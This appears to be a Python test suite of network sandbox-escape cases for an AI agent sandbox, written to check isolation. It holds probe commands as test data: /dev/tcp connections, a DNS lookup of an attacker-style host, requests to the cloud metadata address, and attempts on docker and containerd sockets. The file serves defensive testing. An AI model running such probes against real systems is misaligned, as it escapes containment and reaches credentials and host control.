"""Escapes by the network: reach what listens on the host, and anything beyond it."""

from __future__ import annotations

import re
import socket

import anyio
from escape_kit import KEY, Case, Ground, python

from lmagent.core.sandbox import Exec, Sandbox


def _sh(name: str, script: str, **more) -> Case:
    return Case(f"network-{name}", "network", "sh", script, **more)


def _py(name: str, script: str, **more) -> Case:
    return Case(f"network-{name}", "network", "python", script, **more)


def _c(name: str, function: str, **more) -> Case:
    return Case(f"network-{name}", "network", "c", f"network {function}", **more)


_LISTEN = """
listening = []
for host, family in (("0.0.0.0", socket.AF_INET), ("::", socket.AF_INET6)):
    s = attempt(lambda: socket.create_server((host, 0), family=family), escape=False)
    if s: listening.append(s); print("PORT", s.getsockname()[1], flush=True)
print("LISTENS", flush=True)
time.sleep(20)
"""


async def _listens(ground: Ground, sandbox: Sandbox) -> str:
    """A server of the command must not be reachable from the host: a trap for the user's own programs."""
    shown = bytearray()
    command = Exec(python(_LISTEN), cwd=ground.here.name, timeout=30)
    running = await sandbox.start(command, lambda _, piece: shown.extend(piece))
    reached: list[str] = []
    async with anyio.create_task_group() as group:
        group.start_soon(running.wait)
        for _ in range(200):
            if b"LISTENS" in shown:
                break
            await anyio.sleep(0.05)
        for port in re.findall(rb"PORT (\d+)", bytes(shown)):
            try:
                socket.create_connection(("127.0.0.1", int(port)), 0.5).close()
                reached.append(port.decode())
            except OSError:
                pass
        running.kill()
    return f"a server of the command is reached on the host: {reached}" if reached else ""


_CONNECT = """
for host in sys.argv[1:]: attempt(lambda: socket.create_connection((host, int(E["PORT"])), 2), escape=False)
"""
_SEND = r"""
asked = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"  # for the address of secret.example
s = socket.socket(type=socket.SOCK_DGRAM)
attempt(lambda: s.sendto(asked, ("127.0.0.1", int(E["PORT"]))), escape=False)
"""
_UNIX = "s = socket.socket(socket.AF_UNIX); attempt(lambda: s.connect({}), escape=False)"
_ODD_NAMES = ("0.0.0.0", "127.1", "127.0.0.2", "2130706433", "::ffff:127.0.0.1", "0x7f.1")

CASES = (
    _sh("tcp-sh", 'exec 3<>"/dev/tcp/127.0.0.1/$PORT" && echo hello >&3', needs=("tcp",), ends=False),
    _py("tcp-python", _CONNECT, args=("127.0.0.1",), needs=("tcp",)),
    _py("tcp-localhost", _CONNECT, args=("localhost",), needs=("tcp",)),
    _py("tcp-odd-names", _CONNECT, args=_ODD_NAMES, needs=("tcp",)),
    _c("tcp-c", "tcp", needs=("tcp",)),
    _py("tcp-6", _CONNECT, args=("::1",), needs=("tcp6",)),
    _sh(
        "tcp-curl",
        """
        url="http://127.0.0.1:$PORT/"
        timeout 3 curl -s "$url"
        timeout 3 git ls-remote "$url"
        python3 -c "import urllib.request as u; u.urlopen('$url', timeout=1)"
        """,
        needs=("tcp",),
    ),
    _py("dns-packet", _SEND, needs=("udp",)),
    _sh("udp-sh", 'echo x >"/dev/udp/127.0.0.1/$PORT"', needs=("udp",)),
    _sh("lan-sh", 'exec 3<>"/dev/tcp/$LAN/$PORT"', needs=("lan",), ends=False),
    _py("lan", 'sys.argv.append(E["LAN"])' + _CONNECT, needs=("lan",)),
    _py(
        "dns-resolver",
        """
        for name in ('example.com', 'secret.attacker.example'): attempt(socket.getaddrinfo, name, 80)
        """,
        control="held",
    ),
    _py(
        "outside",
        """
        for address in sys.argv[1:]: attempt(socket.create_connection, (address, 80), 1)
        """,
        args=("192.0.2.1", "169.254.169.254", "2001:db8::1"),
        control="held",
    ),
    _py("abstract", _UNIX.format("chr(0) + E['ABSTRACT']"), needs=("abstract",)),
    _c("abstract-c", "abstract", needs=("abstract",)),
    _py(
        "abstract-listed",
        """
        if E['ABSTRACT'] in open('/proc/net/unix').read(): escaped('listed')
        """,
        needs=("abstract",),
    ),
    _py("unix", _UNIX.format("E['SOCKET']"), needs=("unix",)),
    _py("unix-by-link", "os.symlink(E['SOCKET'], 's'); " + _UNIX.format("'s'"), needs=("unix",)),
    _py("unix-by-root", _UNIX.format("f\"/proc/{os.getppid()}/root{E['SOCKET']}\""), needs=("unix",)),
    _py(
        "unix-datagram",
        """
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        attempt(s.sendto, b'x', E['SOCKET'], escape=False)
        """,
        needs=("datagram",),
    ),
    _py("unix-hard-link", "attempt(os.link, E['SOCKET'], 's', escape=False)\n" + _UNIX.format("'s'"), needs=("unix",)),
    _py(
        "services",
        """
        for folder in ('/run', '/var/run'):
            for name in sys.argv[1:]: attempt(socket.socket(socket.AF_UNIX).connect, f'{folder}/{name}')
        """,
        args=("docker.sock", "containerd/containerd.sock", "dbus/system_bus_socket", "podman/podman.sock"),
        control="held",
    ),
    _py(
        "x11",
        r"""
        for p in ('\0/tmp/.X11-unix/X0', '/tmp/.X11-unix/X0'):
            attempt(socket.socket(socket.AF_UNIX).connect, p)
        """,
        control="held",
    ),
    _c("ping", "ping", needs=("lan",), control="root"),
    _c("raw-socket", "raw", control="root"),
    _c("packet-socket", "packet", control="root"),
    _c("vsock-socket", "vsock", control="held"),
    _c("alg-socket", "alg", control="held"),
    _c("other-families", "families"),
    _c("other-families-by-pairs", "pairs", control="held"),
    _c("netlink-change", "netlink", control="root"),
    _sh(
        "interfaces",
        """
        tail -n +3 /proc/net/dev | grep -v ' *lo:' | grep -q . && echo ESCAPED
        ip route 2>/dev/null | grep -q . && echo ESCAPED
        """,
    ),
    _sh(
        "proxies", f'env | grep -i proxy | grep -q . && echo ESCAPED; echo "${{http_proxy}}${{{KEY}}}"', control="held"
    ),
    Case("network-server", "network", "python", act=_listens),
)
